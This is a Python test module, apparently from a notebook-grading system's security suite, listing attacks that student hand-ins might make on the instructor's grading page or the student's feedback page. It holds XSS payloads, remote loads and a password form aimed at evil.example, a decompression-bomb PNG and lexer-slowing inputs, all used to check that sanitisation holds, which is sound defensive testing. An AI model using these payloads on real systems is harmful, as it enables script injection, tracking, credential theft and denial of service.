"""Attacks on who opens a page: the instructor in the formgrader, the student at the feedback."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

from tests.attacks.model import Attack, reporting

_MUST = "Neither the autograded notebook nor the feedback has anything that runs or is fetched."


def _page(name: str, tries: str, **more: object) -> Attack:
    return Attack(name, "pages", tries, _MUST, **more)


def _shown(name: str, tries: str, data: str) -> Attack:
    """An attack by an output."""
    code = f"from IPython.display import display\ndisplay({data}, raw=True)"
    return _page(name, tries, answers=reporting(code))


def _written(name: str, tries: str, markdown: str) -> Attack:
    """An attack by a Markdown cell."""
    return _page(name, tries, markdown=markdown)


def _added(
    *cells: str, make: Callable[[str], NotebookNode] = new_code_cell
) -> Callable[[Path, NotebookNode], NotebookNode]:
    """Return what adds cells to a hand-in."""

    def tamper(folder: Path, notebook: NotebookNode) -> NotebookNode:
        notebook.cells += [make(source) for source in cells]
        return notebook

    return tamper


_PICTURE = """
import base64, struct, zlib
from IPython.display import display
def chunk(name, data):
    check = struct.pack(">I", zlib.crc32(name + data))
    return struct.pack(">I", len(data)) + name + data + check
head = struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)
rows = zlib.compress(bytes(3751) * 30_000, 9)
png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
display({"image/png": base64.b64encode(png).decode(), "text/plain": "x"}, raw=True)
"""
_COLOURS = "print('\\x1b[1ma\\x1b[0m' * 20_000)"

PAGES = [
    _written("script_in_markdown", "Writes a script.", "<script>alert(1)</script>"),
    _written(
        "handlers_in_markdown",
        "Writes event handlers.",
        "<img src=x onerror=alert(1)> <b onmouseover='alert(1)'>b</b>\n"
        "<details open ontoggle=alert(1)>",
    ),
    _written(
        "remote_loads_in_markdown",
        "Loads pictures, fonts and frames from afar, which tells who looked and when.",
        "![](http://evil.example/x.png) <img src='//evil.example/y.png'>\n"
        "<link rel=stylesheet href=http://evil.example/z.css>",
    ),
    _written(
        "frames_in_markdown",
        "Embeds frames, objects and forms.",
        "<iframe src='javascript:alert(1)'></iframe><object data='data:text/html,x'></object>\n"
        "<form action=http://evil.example><input name=password></form>"
        "<base href='http://evil.example/'>",
    ),
    _written(
        "svg_in_markdown",
        "Writes a drawing with a script.",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
    ),
    _written(
        "style_in_markdown",
        "Writes a style that hides the page and fetches a picture.",
        "<style>body { display: none; background: url(http://evil.example/x.png) }</style>\n"
        "<p style='position: fixed; inset: 0; background: url(//evil.example)'>x</p>",
    ),
    _written(
        "script_links_in_markdown",
        "Writes links that run scripts, in Markdown and in HTML.",
        "[look](javascript:alert(1)) <a href='jAvAsCrIpT&colon;alert(1)'>x</a>\n"
        "[more](data:text/html;base64,PHNjcmlwdD4=)",
    ),
    _written(
        "refresh_in_markdown",
        "Sends the reader to another page.",
        "<meta http-equiv=refresh content='0; url=http://evil.example'>",
    ),
    _shown("html_output", "Displays HTML with a script.",
           "{'text/html': '<script>alert(1)</script><img src=x onerror=alert(1)>'}"),
    _shown("script_output", "Displays JavaScript.",
           "{'application/javascript': 'alert(1)', 'text/plain': 'x'}"),
    _shown("svg_output", "Displays a drawing with a script.",
           "{'image/svg+xml': '<svg onload=alert(1)><script>alert(1)</script></svg>'}"),
    _shown("markdown_output", "Displays Markdown with a script.",
           "{'text/markdown': '<script>alert(1)</script>'}"),
    _shown("latex_output", "Displays LaTeX with HTML in it.",
           "{'text/latex': '$\\\\href{javascript:alert(1)}{x}$ <script>alert(1)</script>'}"),
    _shown("widget_output", "Displays a widget's state with a script.",
           "{'application/vnd.jupyter.widget-view+json': {'model_id': '<script></script>'}}"),
    _shown("picture_that_closes_its_tag", "Displays a picture whose data close the tag.",
           "{'image/png': 'AAAA\"><script>alert(1)</script><img src=\"'}"),
    _page("html_in_printed_text", "Prints HTML and terminal links.",
          answers=reporting("print('<script>alert(1)</script>')\n"
                       "print('\\x1b]8;;javascript:alert(1)\\x07x\\x1b]8;;\\x07')")),
    _page("html_in_an_error", "Raises errors whose type and text are HTML.",
          answers=reporting("E = type('<script>alert(1)</script>', (Exception,), {})\n"
                       "def double(x):\n    raise E('<img src=x onerror=alert(1)>')\n"
                       "raise E('<script>alert(1)</script>')")),
    _page("html_in_the_code", "Writes code that closes the tag it is shown in.",
          answers=reporting("x = '</code></pre></div><script>alert(1)</script>'")),
    _page("many_colour_codes", "Prints 20,000 colour codes in each of 30 cells.",
          tamper=_added(*[_COLOURS] * 30)),
    _page("colour_without_end", "Prints a colour code that ends too early for nbconvert.",
          answers=reporting("print('\\x1b[38m\\x1b[48;5mx')")),
    _page("long_code", "Hands in 1 MB of code with a token every other character.",
          tamper=_added(f"x = [{'1,' * 500_000}1]")),
    _page("code_that_is_slow_to_read", "Hands in lines and gaps that take a lexer their square.",
          tamper=_added(*("." * 25_000, f"a{' ' * 70}\n" * 800, "*" * 25_000, "a." * 12_000))),
    _page("many_outputs", "Shows 1,000 outputs in each of 60 cells.",
          tamper=_added(*["for n in range(1000):\n    display(n)"] * 60)),
    _page("picture_of_a_billion_pixels", "Shows a picture of few bytes and 900,000,000 pixels.",
          answers=reporting(_PICTURE)),
    _page("long_texts", "Hands in 4 MB of Markdown in 40 cells.",
          tamper=_added(*["&*( <div> " * 10_000] * 40, make=new_markdown_cell)),
    _page("texts_that_are_slow_to_read", "Hands in Markdown that takes its reader long.",
          tamper=_added(*["*(" * 6000, "<div>" * 2400, "<ul>" * 3000] * 2,
                        make=new_markdown_cell)),
    _page("slow_lexers_in_markdown", "Hands in code blocks that take lexers their square.",
          tamper=_added(*[f"```{name}\n{'.' * 11_000}\n```" for name in ("python", "perl", "ada")],
                        make=new_markdown_cell)),
]  # fmt: skip
